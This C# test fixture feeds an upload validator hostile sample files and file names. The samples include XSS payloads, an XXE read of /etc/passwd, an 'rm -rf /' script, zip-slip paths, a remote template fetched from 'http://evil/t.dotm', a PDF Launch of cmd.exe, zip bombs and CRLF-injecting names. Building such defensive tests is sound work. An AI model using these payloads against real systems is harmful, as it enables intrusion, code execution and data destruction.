namespace Huisheng.Tests.Files;

/// <summary>The contents and names themselves.</summary>
public sealed partial class HostileFiles
{
    private static IEnumerable<(string Name, byte[] Content)> Unknown() =>
        [
            (
                "a.svg",
                Archives.Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>")
            ),
            ("a.txt", Archives.Bytes("  \r\n<!DOCTYPE html><script>alert(1)</script>")),
            ("a.csv", [0xEF, 0xBB, 0xBF, .. Script]),
            ("a.png", Script),
            (
                "a.txt",
                Archives.Bytes(
                    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
                )
            ),
            ("a.txt", Archives.Bytes("#!/bin/sh\nrm -rf /")),
            ("a.txt", [.. "MZ"u8, 0x90, 0, .. new byte[60]]),
            ("a.txt", [0x7F, .. "ELF"u8, .. new byte[60]]),
            ("a.txt", [0xFE, 0xFF, 0, 60, 0, 115]),
            ("a.txt", [0x61, 0x80, 0x20, 0xFF]),
            ("a.xlsx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]]),
            ("a.zip", Archives.Zip(("a.txt", Archives.Bytes("x")))),
            (
                "a.xlsx",
                Archives.Zip(
                    ("[Content_Types].xml", Archives.Bytes(Archives.Types)),
                    ("ppt/presentation.xml", Script)
                )
            ),
            ("a.jar", Archives.Zip(("META-INF/MANIFEST.MF", Script))),
            ("a.rar", [.. "Rar!"u8, 0x1A, 7, 0, .. new byte[20]]),
            ("a.7z", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, .. new byte[20]]),
            ("a.ico", [0, 0, 1, 0, 1, 0, .. new byte[20]]),
            ("a.mp3", [0xFF, 0xF0, 0, 0, .. new byte[20]]),
        ];

    private static IEnumerable<(string Name, byte[] Content)> Broken() =>
        [
            ("a.png", Pictures.Png()[..40]),
            ("a.jpg", Pictures.Jpeg()[..60]),
            ("a.gif", Pictures.Gif()[..20]),
            ("a.webp", Pictures.WebP()[..30]),
            ("a.png", [.. Pictures.Png()[..8], 255, 255, 255, 255, .. "IHDR"u8]),
            ("a.jpg", [0xFF, 0xD8, 0xFF, 0xD9]),
            ("a.png", Pictures.Png(0, 5)),
            ("a.xlsx", Archives.Xlsx()[..50]),
            ("a.xlsx", Archives.Xlsx(("../../evil.xml", Script))),
            ("a.xlsx", Archives.Xlsx(("/etc/cron.d/x", Script))),
            ("a.xlsx", Archives.Xlsx(("xl\\..\\..\\x.xml", Script))),
        ];

    private static IEnumerable<(string Name, byte[] Content)> Active() =>
        [
            ("a.xlsx", Archives.Xlsx(("xl/vbaProject.bin", [1, 2, 3]))),
            ("a.docx", Archives.Docx(("word/vbaData.xml", Script))),
            ("a.xlsx", Archives.Xlsx(("xl/macrosheets/sheet1.xml", Script))),
            ("a.docx", Archives.Docx(("word/activeX/activeX1.bin", [1]))),
            ("a.docx", Archives.Docx(("word/embeddings/oleObject1.bin", [1]))),
            ("a.xlsx", Archives.Xlsx(("xl/media/image1.png", Archives.Zip(("a", [1]))))),
            ("a.xlsx", Archives.Xlsx(("xl/media/image1.png", [.. "MZ"u8, 1, 2]))),
            (
                "a.docx",
                Archives.Docx(
                    (
                        "word/_rels/settings.xml.rels",
                        Archives.Bytes(
                            "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/t.dotm\" TargetMode=\"External\"/>"
                        )
                    )
                )
            ),
            ("a.pdf", Archives.Bytes("%PDF-1.4\n<</S/JavaScript/JS(app.alert(1))>>")),
            (
                "a.pdf",
                Archives.Bytes("%PDF-1.4\n" + new string(' ', 70_000) + "<</S/Launch/F(cmd.exe)>>")
            ),
            ("a.pdf", Archives.Bytes("%PDF-1.4\n<</EmbeddedFile 3 0 R>>")),
        ];

    private static IEnumerable<(string Name, byte[] Content)> Bombs()
    {
        var zeros = new byte[50 << 20];
        yield return ("a.xlsx", Archives.Xlsx(("xl/a.bin", zeros)));
        yield return ("a.xlsx", Archives.Understated(Archives.Xlsx(("xl/a.bin", zeros))));
        yield return (
            "a.xlsx",
            Archives.Xlsx([
                .. Enumerable.Range(0, 1001).Select(i => ($"xl/{i}.xml", new byte[] { 32 })),
            ])
        );
        yield return (
            "a.docx",
            Archives.Docx(
                ("word/x.xml", Archives.Bytes("<!DOCTYPE a [<!ENTITY b \"bbbbbb\">]><a>&b;</a>"))
            )
        );
    }

    private static IEnumerable<(string Given, string Kept)> Names()
    {
        yield return ("../../etc/passwd.png", "passwd.png");
        yield return (@"C:\Windows\System32\x.png", "x.png");
        yield return ("a\0.php.png", "a.php.png");
        yield return ("a\u200b\u200d.png", "a.png");
        yield return ("\u202Egnp.exe\u202C.png", "gnp.exe.png");
        yield return ("CON.png", "_CON.png");
        yield return ("nul.tar.png", "_nul.tar.png");
        yield return ("a<b>:\"|?*.png", "a_b______.png");
        yield return ("a\r\nSet-Cookie: x=1.png", "aSet-Cookie_ x=1.png");
        yield return ("张伟 13812345678.png", "张伟 138****5678.png");
        yield return (new string('很', 200) + ".png", new string('很', 83) + ".png");
        yield return ("a.png. . .", "a.png");
        yield return ("%2e%2e%2f%00.png", "%2e%2e%2f%00.png");
    }
}
